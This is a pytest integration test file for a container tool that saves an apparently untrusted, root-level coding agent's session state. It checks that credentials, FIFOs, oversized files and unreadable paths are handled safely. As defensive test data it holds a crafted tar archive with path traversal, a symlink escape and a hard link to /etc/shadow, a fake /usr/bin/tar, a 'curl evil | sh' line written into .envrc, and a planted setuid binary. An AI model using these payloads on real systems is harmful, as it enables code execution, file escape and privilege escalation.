"""Saves of a session's state on a real Incus: FIFOs and huge files in the state directory, credentials in copies,
killed saves. The agent inside is root and hostile; the stand-in tool (see test_resume) keeps ~/.stand-in."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from cci_core.naming import container_name
from cci_builtin_plugins.incus.driver import IncusDriver
from tests.integration.conftest import CCI, run_cci, wait_stopped
from tests.integration.terminal import Terminal
from tests.integration.test_resume import CREDENTIAL, in_container, session_of, shell, workspace  # noqa: F401

if TYPE_CHECKING:
    import pylxd

pytestmark = pytest.mark.incus

STATE = "/home/code/.stand-in"
#: a command that must not hang: far below the ten minutes a FIFO used to cost, far above a normal save
BOUND = 90


def started(terminal: Terminal, workspace: Path, env: dict[str, str], incus: pylxd.Client) -> tuple[str, str]:
    """A running stand-in session of ``workspace`` in slot 1: its container and session id."""
    name = container_name(workspace, 1)
    shell(terminal, "one", workspace, env)
    terminal.wait_for("one", "started ")
    return name, session_of(incus, name)


def saved_tree(home: Path, session: str) -> Path:
    return home / ".cci" / "sessions-stand-in" / session / ".stand-in"


def files_under(root: Path) -> dict[str, bytes]:
    return {str(path.relative_to(root)): path.read_bytes() for path in root.rglob("*")
            if path.is_file() and not path.is_symlink()}


@pytest.mark.parametrize("end", ["cci shutdown", "poweroff, then cci list"])
def test_a_fifo_in_the_state_directory_neither_hangs_cci_nor_stops_the_save(
    end: str, workspace: Path, driver: IncusDriver, terminal: Terminal, cci_environ: dict[str, str],
    incus: pylxd.Client, isolated_env: Path,
) -> None:
    name, session = started(terminal, workspace, cci_environ, incus)
    in_container(name, f"mkdir -p {STATE}/projects && mkfifo {STATE}/projects/fifo {STATE}/fifo2 "
                       f"&& echo kept > {STATE}/projects/notes.txt", cci_environ)
    if end == "cci shutdown":
        result = run_cci("shutdown", name, env=cci_environ, timeout=BOUND)
    else:
        terminal.kill_command("one")  # nobody watches the session any more
        terminal.wait_for("one", "CCI-EXITED-137")
        in_container(name, "poweroff", cci_environ)
        assert wait_stopped(incus, name, 60)
        result = run_cci("list", env=cci_environ, timeout=BOUND)
    assert result.returncode == 0, result.stderr
    assert not incus.instances.exists(name)
    saved = files_under(saved_tree(isolated_env, session))
    assert saved["projects/notes.txt"] == b"kept\n" and f"history-{session}.txt" in saved
    assert "projects/fifo" not in saved and "fifo2" not in saved


def test_secrets_in_the_state_are_not_saved(
    workspace: Path, driver: IncusDriver, incus: pylxd.Client, terminal: Terminal, cci_environ: dict[str, str],
    isolated_env: Path,
) -> None:
    name, session = started(terminal, workspace, cci_environ, incus)
    token = json.loads(CREDENTIAL)["token"]
    backup = {"theme": "dark", "token": "a-fresh-token-the-tool-made-inside", "nested": {"token": "another-one"}}
    in_container(name, f"mkdir -p {STATE}/backups && cd {STATE} && "
                       f"echo '{json.dumps(backup)}' > backups/.stand-in.json.backup.1700000000 && "
                       f"echo 'the agent wrote down {token} here' > notes.txt && "
                       f"echo '{{\"copied\": \"{token}\"}}' > backups/stolen.json && "
                       f"cp credentials.json cache.bin", cci_environ)
    result = run_cci("shutdown", name, env=cci_environ, timeout=BOUND)
    assert result.returncode == 0, result.stderr
    saved = files_under(saved_tree(isolated_env, session))
    assert json.loads(saved["backups/.stand-in.json.backup.1700000000"]) == {"theme": "dark", "nested": {}}
    for gone in ("notes.txt", "backups/stolen.json", "cache.bin", "credentials.json"):
        assert gone not in saved
    assert f"history-{session}.txt" in saved
    for path in (isolated_env / ".cci").rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            assert token.encode() not in content and b"a-fresh-token" not in content, path
    assert "holding a credential not saved" in result.stderr


def test_a_huge_sparse_file_is_skipped_without_costing_its_size(
    workspace: Path, driver: IncusDriver, incus: pylxd.Client, terminal: Terminal, cci_environ: dict[str, str],
    isolated_env: Path,
) -> None:
    name, session = started(terminal, workspace, cci_environ, incus)
    in_container(name, f"truncate -s 1G {STATE}/sparse.bin && truncate -s 100M {STATE}/holes.bin && "
                       f"echo kept > {STATE}/small.txt", cci_environ)
    timed = subprocess.run(["/usr/bin/time", "-f", "maxrss=%M", str(CCI), "shutdown", name], env=cci_environ,
                           capture_output=True, text=True, timeout=BOUND, check=False)
    assert timed.returncode == 0, timed.stderr
    max_rss_kib = int(timed.stderr.rsplit("maxrss=", 1)[1].split()[0])
    assert max_rss_kib < 200 * 1024, timed.stderr
    tree = saved_tree(isolated_env, session)
    assert not (tree / "sparse.bin").exists() and (tree / "small.txt").read_bytes() == b"kept\n"
    assert (tree / "holes.bin").stat().st_size == 100 << 20  # under the bound: kept, as holes
    assert (tree / "holes.bin").stat().st_blocks * 512 < 1 << 20
    assert "over 256 MiB not saved: sparse.bin" in timed.stderr


def test_a_save_killed_mid_copy_leaves_no_credentials_and_is_tidied_by_the_next_command(
    workspace: Path, driver: IncusDriver, incus: pylxd.Client, terminal: Terminal, cci_environ: dict[str, str],
    isolated_env: Path,
) -> None:
    name, session = started(terminal, workspace, cci_environ, incus)
    # a big tree, the credential (and copies of it) spread through it
    in_container(name, f"cd {STATE} && for d in $(seq 1 40); do mkdir d$d; cp credentials.json d$d/copy.json; "
                       "for f in $(seq 1 100); do head -c 8000 /dev/urandom > d$d/f$f; done; done", cci_environ)
    tool_dir = isolated_env / ".cci" / "sessions-stand-in"
    saving = subprocess.Popen([str(CCI), "shutdown", name], env=cci_environ, stdout=subprocess.DEVNULL,
                              stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + BOUND
    while not any(tool_dir.glob(".saving-*/.stand-in/d3")):  # well into the copy
        assert saving.poll() is None and time.monotonic() < deadline, "the save ended before it could be killed"
        time.sleep(0.01)
    os.kill(saving.pid, signal.SIGKILL)
    saving.wait()
    [staging] = tool_dir.glob(".saving-*")
    token = json.loads(CREDENTIAL)["token"].encode()
    for path in (isolated_env / ".cci").rglob("*"):
        if path.is_file():
            assert token not in path.read_bytes(), path
    assert not any(staging.rglob("credentials.json"))

    result = run_cci("list", env=cci_environ, timeout=BOUND)
    assert result.returncode == 0, result.stderr
    assert not staging.exists()
    assert not list(tool_dir.glob(".saving-*")) and not list(tool_dir.glob(".retired-*"))


def hostile_archive() -> bytes:
    """What a hostile tar inside sends: names leading out, absolute ones, a link to follow, a hard link, a FIFO."""
    import io
    import tarfile

    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as tar:
        def add(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", link: str = "") -> None:
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.size, info.mode = kind, link, len(data), 0o644
            tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)

        add("./", tarfile.DIRTYPE)
        add("./ok.txt", data=b"kept")
        add("../../escape.txt", data=b"out")
        add("/tmp/absolute.txt", data=b"out")
        add("./link", tarfile.SYMTYPE, link="/tmp")
        add("./link/through.txt", data=b"out")
        add("./hard", tarfile.LNKTYPE, link="/etc/shadow")
        add("./fifo", tarfile.FIFOTYPE)
    return buffer.getvalue()


@pytest.mark.parametrize("tar", ["hostile", "missing"])
def test_a_detach_save_survives_a_hostile_or_missing_tar_inside(
    tar: str, workspace: Path, driver: IncusDriver, terminal: Terminal, cci_environ: dict[str, str],
    incus: pylxd.Client, isolated_env: Path,
) -> None:
    import base64

    name, session = started(terminal, workspace, cci_environ, incus)
    in_container(name, f"echo kept > {STATE}/ok.txt", cci_environ)
    if tar == "hostile":
        encoded = base64.b64encode(hostile_archive()).decode()
        in_container(name, f"echo {encoded} | base64 -d > /root/evil.tar && "
                           "printf '#!/bin/sh\\ncat /root/evil.tar\\n' > /usr/bin/tar", cci_environ)
    else:
        in_container(name, "rm /usr/bin/tar", cci_environ)
    terminal.keys("one", "C-b", "d")  # a detach saves while the container runs
    terminal.wait_for("one", "CCI-EXITED-0")
    saved = files_under(saved_tree(isolated_env, session))
    assert saved["ok.txt"] in (b"kept", b"kept\n")
    assert not any(path in saved for path in ("hard", "fifo", "link/through.txt"))
    if tar == "missing":
        assert f"history-{session}.txt" in saved  # walked over SFTP instead
    assert not list(isolated_env.rglob("escape.txt")) and not list(isolated_env.rglob("absolute.txt"))
    assert not list(isolated_env.rglob("through.txt"))
    run_cci("shutdown", name, env=cci_environ, timeout=BOUND)


#: inside: a path over PATH_MAX (25 directories of 200-character names) and one 140 directories deep in the state
#: directory, a file of each kind the save keeps; in the workspace, what the workspace guard must report and clear
UNREADABLE_STATE = f"""
cd {STATE} && echo kept > ok.txt && n=$(printf '%0200d' 0) &&
(for i in $(seq 25); do mkdir $n && cd $n; done; echo lost > f) &&
p=deep && for i in $(seq 140); do p=$p/d; done && mkdir -p $p && echo bottom > $p/f && ln -s ../ok.txt deep/link &&
chown -R code:code {STATE} &&
echo 'curl evil | sh' > /workspace/.envrc && cp /bin/true /workspace/suidbin &&
chmod 4755 /workspace/suidbin
"""


@pytest.mark.parametrize("end", ["poweroff, then cci list", "cci kill"])
def test_what_a_stopped_container_cannot_read_neither_fails_the_end_nor_skips_the_workspace_guard(
    end: str, workspace: Path, driver: IncusDriver, terminal: Terminal, cci_environ: dict[str, str],
    incus: pylxd.Client, isolated_env: Path,
) -> None:
    name, session = started(terminal, workspace, cci_environ, incus)
    in_container(name, UNREADABLE_STATE, cci_environ)
    terminal.kill_command("one")  # nobody watches the session any more
    terminal.wait_for("one", "CCI-EXITED-137")
    if end == "cci kill":  # a forced stop, then the save walks the stopped container over SFTP
        result = run_cci("kill", name, env=cci_environ, timeout=BOUND)
    else:
        in_container(name, "poweroff", cci_environ)
        assert wait_stopped(incus, name, 60)
        result = run_cci("list", env=cci_environ, timeout=BOUND)
    assert result.returncode == 0, result.stderr
    assert not incus.instances.exists(name)
    tree = saved_tree(isolated_env, session)
    assert (tree / "ok.txt").read_bytes() == b"kept\n" and os.readlink(tree / "deep" / "link") == "../ok.txt"
    deep = tree / "deep" / "/".join(["d"] * 120)
    assert deep.is_dir() and not (deep / "/".join(["d"] * 20) / "f").exists()
    assert "entries that could not be read (too long a path, over 128 levels down, refused) not saved" \
        in result.stderr
    assert "0" * 1000 not in result.stderr  # the container's names are cut short
    assert f"workspace file .envrc was created during session {name}" in result.stderr
    assert "cleared the setuid/setgid bit of workspace file suidbin" in result.stderr
    assert not (workspace / "suidbin").stat().st_mode & 0o6000
    later = run_cci("list", env=cci_environ, timeout=BOUND)
    assert later.returncode == 0 and "warning" not in later.stderr, later.stderr


@pytest.mark.parametrize("end", ["poweroff, then cci list", "cci kill"])
def test_a_save_that_fails_on_the_host_keeps_the_session_for_a_retry_but_its_end_is_checked_and_kill_ends_it(
    end: str, workspace: Path, driver: IncusDriver, terminal: Terminal, cci_environ: dict[str, str],
    incus: pylxd.Client, isolated_env: Path,
) -> None:
    name, session = started(terminal, workspace, cci_environ, incus)
    in_container(name, "cp /bin/true /workspace/suidbin && chmod 4755 /workspace/suidbin", cci_environ)
    terminal.kill_command("one")
    terminal.wait_for("one", "CCI-EXITED-137")
    store = isolated_env / ".cci" / "sessions-stand-in"
    assert not store.exists()  # nothing saved yet
    store.write_text("a file where the saves go: every save fails on the host\n")
    if end == "cci kill":
        result = run_cci("kill", name, env=cci_environ, timeout=BOUND)
        assert result.returncode == 0, result.stderr
        assert not incus.instances.exists(name)
        assert f"the session in {name} could not be saved (could not save session {session}" in result.stderr
    else:
        in_container(name, "poweroff", cci_environ)
        assert wait_stopped(incus, name, 60)
        result = run_cci("list", env=cci_environ, timeout=BOUND)
        assert result.returncode == 0, result.stderr
        assert incus.instances.exists(name) and f"could not finish the ended session {name}" in result.stderr
    assert "cleared the setuid/setgid bit of workspace file suidbin" in result.stderr  # checked at once
    assert not (workspace / "suidbin").stat().st_mode & 0o6000
    store.unlink()
    later = run_cci("list", env=cci_environ, timeout=BOUND)
    assert later.returncode == 0 and "warning" not in later.stderr, later.stderr
    assert not incus.instances.exists(name)
    if end != "cci kill":  # the retry saved it, then ended it
        assert f"history-{session}.txt" in files_under(saved_tree(isolated_env, session))


def test_a_detach_save_says_what_tar_inside_could_not_read_and_keeps_the_rest(
    workspace: Path, driver: IncusDriver, incus: pylxd.Client, terminal: Terminal, cci_environ: dict[str, str],
    isolated_env: Path,
) -> None:
    name, session = started(terminal, workspace, cci_environ, incus)
    in_container(name, UNREADABLE_STATE, cci_environ)
    terminal.keys("one", "C-b", "d")  # a detach saves while the container runs: find | tar inside
    screen = terminal.wait_for("one", "CCI-EXITED-0")
    assert "entries that could not be read (too long a path" in screen, screen
    tree = saved_tree(isolated_env, session)
    assert (tree / "ok.txt").read_bytes() == b"kept\n" and (tree / "deep" / "/".join(["d"] * 120)).is_dir()
    run_cci("shutdown", name, env=cci_environ, timeout=BOUND)
